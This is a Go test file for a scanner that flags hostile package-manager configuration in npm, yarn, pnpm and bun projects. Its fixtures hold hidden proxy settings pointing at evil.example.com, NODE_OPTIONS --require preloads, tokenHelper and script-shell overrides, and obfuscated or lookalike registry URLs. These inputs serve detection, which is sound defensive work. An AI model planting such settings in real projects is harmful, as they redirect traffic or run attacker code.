package hostile

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/sandglass-dev/sandglass/internal/domain/registry"
)

// What is written so that it is hard to see is seen, and kept from the session.
var hidden = []struct{ id, file, text, code string }{
	{"A05", ".env", "\ufeffexport HTTPS_PROXY = http://evil.example.com", Env},
	{"A05", ".env.test.local", "HTTPS_PROXY: http://evil.example.com", Env},
	{"A05", ".env.production", "A=1\rHTTPS_PROXY=x", Env},
	{"A05", ".env", "NODE_OPTIONS=--require=./x.js", Env},
	{"A05", ".env.yarn", "YARN_HTTPS_PROXY=x", Env},
	{"A05", ".yarnrc.yml", "injectEnvironmentFiles: [./x.env]", Env},
	{"A05", ".yarnrc", "--https-proxy http://evil.example.com", Proxy},
	{"A05", ".npmrc", "HTTPS_PROXY=http://evil.example.com", Proxy},
	{"A06", ".npmrc", "userconfig=./x", UserConfig},
	{"A07", ".npmrc", "globalconfig=./x", GlobalConfig},
	{"A07", ".npmrc", "prefix=./x", GlobalConfig},
	{"A08", ".npmrc", "${NOPE?}https-proxy=http://evil.example.com", Unreadable},
	{"A08", ".npmrc", "${NOPE:-https-proxy}=http://evil.example.com", Unreadable},
	{"A08", ".npmrc", "//registry.example.com/:${NOPE?}cafile=x", Unreadable},
	{"A08", "pnpm-workspace.yaml", "httpsProxy: !!str http://evil.example.com", Unreadable},
	{"A08", "pnpm-workspace.yaml", "<<: [{httpsProxy: http://evil.example.com}]", Proxy},
	{"A08", "pnpm-workspace.yaml", "${X}: 1", Unreadable},
	{"A08", ".yarnrc.yml", "httpsProxy: !!str http://evil.example.com", Unreadable},
	{"A08", ".yarnrc.yml", "# " + strings.Repeat("x", 1<<20), Unreadable},
	{"A08", ".yarnrc.yml", "networkSettings: {'*': {httpsProxy: http://evil.example.com}}", Proxy},
	{"A08", ".yarnrc.yml", "httpsProxy: {onConflict: reset, value: http://evil.example.com}", Proxy},
	{"A08", "bunfig.toml", "a = " + strings.Repeat("[", 100), Unreadable},
	{"A10", ".npmrc", "//registry.example.com/npm/:tokenHelper=/x", Helper},
	{"A10", ".npmrc", "git=${NOPE?}./git", Program},
	{"A10", ".npmrc", "script-shell=bin/sh", Program},
	{"A17", ".npmrc", "registry=https://registry.example.com/${NOPE?}../b/", Address},
	{"A17", "package-lock.json", `{"resolved":"https://registry.example.com/npm/%2e%2e/a.tgz"}`, Address},
	{"A19", ".npmrc", "registry=https://registry.example.com:844${SHLVL}/", Address},
	{"A20", "package.json", `{"dependencies":{"a":"http://ｒegistry.example.com/a.tgz"}}`, Address},
	{"A23", ".npmrc", "registry=http://${NOPE?}registry.example.com/npm/", Lookalike},
	{"A23", ".yarnrc.yml", "npmRegistryServer: ${A-http:${B-//registry.example.com}/npm/}", Lookalike},
	{"A23", "package-lock.json", `{"resolved":"\u0068ttp://registry.example.com/a.tgz"}`, Lookalike},
	{"A23", "package-lock.json", `{"resolved":"ht\ttp:\/\/registry.example.com/a.tgz"}`, Lookalike},
	{"A23", "package-lock.json", "{\"resolved\":\n\n\"HTTP://me@Registry.example.com./a.tgz\"}", Lookalike},
	{"A23", "package-lock.json", `{"resolved":"http:registry%2eexample.com/a.tgz"}`, Lookalike},
	{"A23", "yarn.lock", `"a@npm:1::%5F_archiveUrl=%68ttp%3A%2F%2Fregistry.example.com%2Fa.tgz"`, Lookalike},
	{"A23", "pnpm-lock.yaml", `resolution: {"tarball": "http://registry.example.com/a.tgz"}`, Lookalike},
	{"A23", "pnpm-lock.yaml", "resolution: {tarball: \"http:\\\n    //registry.example.com/a.tgz\"}", Lookalike},
	{"A23", "pnpm-workspace.yaml", "overrides: {a: 'http://registry.example.com/a.tgz'}", Lookalike},
	{"A23", ".yarnrc.yml", "packageExtensions: {a: {dependencies: {b: 'http://registry.example.com/a.tgz'}}}", Lookalike},
	{"A23", "package.json", `{"dependencies":{"a":"git+http://registry.example.com/a.git"}}`, Lookalike},
	{"A23", "package.json", `{/**/"overrides":{"a":{"b":"http://registry.example.com/a.tgz"}}}`, Lookalike},
	{"A23", "package.json", `{"workspaces":{"catalog":{"a":"\u0068ttp://registry.example.com:80/a.tgz"}}}`, Lookalike},
}

func seen(t *testing.T, id string) {
	t.Helper()
	known := []registry.URL{parse(t, "https://registry.example.com/npm/")}
	for _, c := range hidden {
		if c.id != id {
			continue
		}
		got := Scan(Project{Files: map[string][]byte{c.file: []byte(c.text)}, Known: known})
		if !slices.ContainsFunc(got, func(d Danger) bool { return d.Code == c.code && d.Severity == High }) {
			t.Errorf("%s %.80q: %+v", c.file, c.text, got)
		}
		seal, withhold := Protect(got, User{Names: []string{"SG_X"}})
		plain := c.code == Proxy && !strings.Contains(c.text, network)
		if len(seal) == 0 || !plain && len(withhold) != 1 {
			t.Errorf("%s %.80q: sealed %v, withheld %v", c.file, c.text, seal, withhold)
		}
	}
}

func TestA05_HiddenProxy(t *testing.T)          { seen(t, "A05") }
func TestA06_UserConfigWithheld(t *testing.T)   { seen(t, "A06") }
func TestA07_GlobalConfigWithheld(t *testing.T) { seen(t, "A07") }
func TestA08_HiddenSettings(t *testing.T)       { seen(t, "A08") }
func TestA10_Programs(t *testing.T)             { seen(t, "A10") }
func TestA17_HiddenDotDot(t *testing.T)         { seen(t, "A17") }
func TestA19_HiddenPort(t *testing.T)           { seen(t, "A19") }
func TestA20_HiddenHost(t *testing.T)           { seen(t, "A20") }
func TestA23_HiddenScheme(t *testing.T)         { seen(t, "A23") }

// Protect: what a seal beats is sealed, what it does not is withheld, and what a stranger cannot know neither.
func TestA14_Protect(t *testing.T) {
	for _, c := range []struct {
		name     string
		d        Danger
		u        User
		sealed   bool
		withheld bool
	}{
		{"a strange registry", Danger{Code: Registry, Severity: Low}, User{}, false, false},
		{"a strange lock file", Danger{Code: Lockfile, Severity: Low}, User{}, false, false},
		{"a variable in a value", Danger{Code: Variable, File: ".npmrc", Severity: High}, User{}, true, false},
		{"npm's proxy", Danger{Code: Proxy, File: ".npmrc", Severity: High}, User{Pnpm10: true}, true, false},
		{"npm's certificates", Danger{Code: TLS, File: ".npmrc", Severity: High}, User{}, true, false},
		{"pnpm's proxy", Danger{Code: Proxy, File: "pnpm-workspace.yaml", Severity: High}, User{}, true, false},
		{"pnpm 10's proxy", Danger{Code: Proxy, File: "pnpm-workspace.yaml", Severity: High}, User{Pnpm10: true}, true, true},
		{"yarn's proxy by host", Danger{Code: TLS, File: ".yarnrc.yml", Key: "networkSettings.httpsCaFilePath", Severity: High}, User{}, true, true},
		{"yarn's proxy and one of the user's", Danger{Code: Proxy, File: ".yarnrc.yml", Severity: High}, User{Own: Own{Proxy: "http://p.example.com"}}, true, true},
		{"a proxy that no env file holds", Danger{Code: Proxy, File: ".npmrc", Severity: High}, User{Own: Own{HTTPSProxy: "http://p.example.com/ x"}}, true, true},
		{"more than is told", Danger{Code: More, Severity: High}, User{}, true, true},
		{"more of the harmless", Danger{Code: More, Severity: Low}, User{}, false, false},
		{"unread", Danger{Code: Unreadable, Severity: High}, User{}, true, true},
	} {
		c.u.Names = []string{"SG_X"}
		seal, withhold := Protect([]Danger{{Code: Registry, Severity: Low}, c.d}, c.u)
		if (len(seal) > 0) != c.sealed || (len(withhold) > 0) != c.withheld {
			t.Errorf("%s: sealed %v, withheld %v", c.name, seal, withhold)
		}
	}
}

// A file that could not be read whole is told, with what its beginning says.
func TestA08_Unread(t *testing.T) {
	got := Scan(Project{Files: map[string][]byte{".npmrc": []byte("proxy=x")}, Unread: []string{".npmrc", "bunfig.toml", "yarn.lock"}})
	var text []string
	for _, d := range got {
		text = append(text, d.File+" "+d.Code+" "+string(d.Severity))
	}
	want := ".npmrc hostile-unreadable high\n.npmrc hostile-proxy high\nbunfig.toml hostile-unreadable high\nyarn.lock hostile-unreadable high"
	if strings.Join(text, "\n") != want {
		t.Errorf("got\n%s", strings.Join(text, "\n"))
	}
}

// A file made of dangers is told of in short, and what matters is not lost among the rest.
func TestA15_ManyDangers(t *testing.T) {
	known := []registry.URL{parse(t, "https://registry.example.com/npm/")}
	var low, high, lock strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&low, "@a%d:registry=https://evil%d.example.com/\n", i, i)
		fmt.Fprintf(&high, "//evil.example.com/:_auth=${X%d}\n", i)
		fmt.Fprintf(&lock, "\"resolved\": \"https://evil%d.example.com/\"\n", i)
	}
	for _, c := range []struct{ file, text, code string }{
		{".npmrc", low.String() + "userconfig=x", UserConfig},
		{".npmrc", high.String() + "userconfig=x", More},
		{"yarn.lock", lock.String() + "resolved \"http://registry.example.com/\"", Lookalike},
	} {
		got := Scan(Project{Files: map[string][]byte{c.file: []byte(c.text)}, Known: known})
		if _, withhold := Protect(got, User{Names: []string{"SG_X"}}); len(got) > maxDangers+1 || len(withhold) == 0 ||
			!slices.ContainsFunc(got, func(d Danger) bool { return d.Code == c.code && d.Severity == High }) {
			t.Errorf("%d dangers, %+v", len(got), got[len(got)-1])
		}
	}
}

// Projects as people have them.
func TestHonestMonorepo(t *testing.T) {
	public := registry.Public.String()
	files := map[string][]byte{
		".npmrc":              []byte("@acme:registry=https://registry.example.com/npm/\n//registry.example.com/npm/:_authToken=${NPM_TOKEN}\nengine-strict=true\nnode-options=--openssl-legacy-provider --max-old-space-size=8192\nscript-shell=/bin/bash\n"),
		"pnpm-workspace.yaml": []byte("packages:\n  - apps/*\n  - '!**/test'\ncatalog:\n  react: ^19.0.0\ncatalogs:\n  old: {react: ^18}\noverrides:\n  a: https://codeload.github.com/a/a/tar.gz/1\nonlyBuiltDependencies: [esbuild]\n"),
		".yarnrc.yml":         []byte("nodeLinker: node-modules\nenableGlobalCache: true\ncompressionLevel: mixed\ninjectEnvironmentFiles:\n  - .env.yarn?\n  - ./.env?\npackageExtensions:\n  a@*:\n    dependencies: {b: '*'}\n"),
		"bunfig.toml":         []byte("preload = ['./a.ts']\n[test]\ncoverage = true\n[install]\nexact = true\n[install.scopes]\nacme = { url = 'https://registry.example.com/npm/', token = '$NPM_TOKEN' }\n[run]\nbun = true\n"),
		".env":                []byte("APP_URL=http://registry.example.com/\nAPP_PROXY=x\nNODE_ENV=development\nNODE_OPTIONS=--max-old-space-size=4096\nPROXY_HOST: x\nTEXT=\"a\nb=c\"\n"),
		"package.json": []byte(`{"name":"x","homepage":"http://registry.example.com/x","repository":{"url":"git+http://registry.example.com/x.git"},
"dependencies":{"a":"git+ssh://git@github.com/a/a.git","b":"github:b/b","c":"https://cdn.example.com/c.tgz","d":"https://registry.example.com/npm/d/-/d-1.0.0.tgz","e":"npm:f@1"},
"scripts":{"x":"curl http://registry.example.com/"},"publishConfig":{"access":"public"}}`),
		"package-lock.json": []byte(`{"packages":{"node_modules/a":{"resolved":"` + public + `@a%2fb/-/b-1.0.0.tgz","funding":{"url":"http://opencollective.com/a"}},"node_modules/g":{"resolved":"git+ssh://git@github.com/a/a.git#1"}}}`),
	}
	known := []registry.URL{parse(t, "https://registry.example.com/npm/")}
	if got := Scan(Project{Files: files, Known: known}); len(got) > 0 {
		t.Errorf("%+v", got)
	}
	got := Scan(Project{Files: map[string][]byte{".yarnrc.yml": []byte("yarnPath: .yarn/releases/yarn-4.9.0.cjs\n")}, Known: known})
	if seal, withhold := Protect(got, User{Names: []string{"SG_X"}}); Worst(got) != Low || len(seal)+len(withhold) > 0 {
		t.Errorf("%+v", got)
	}
}
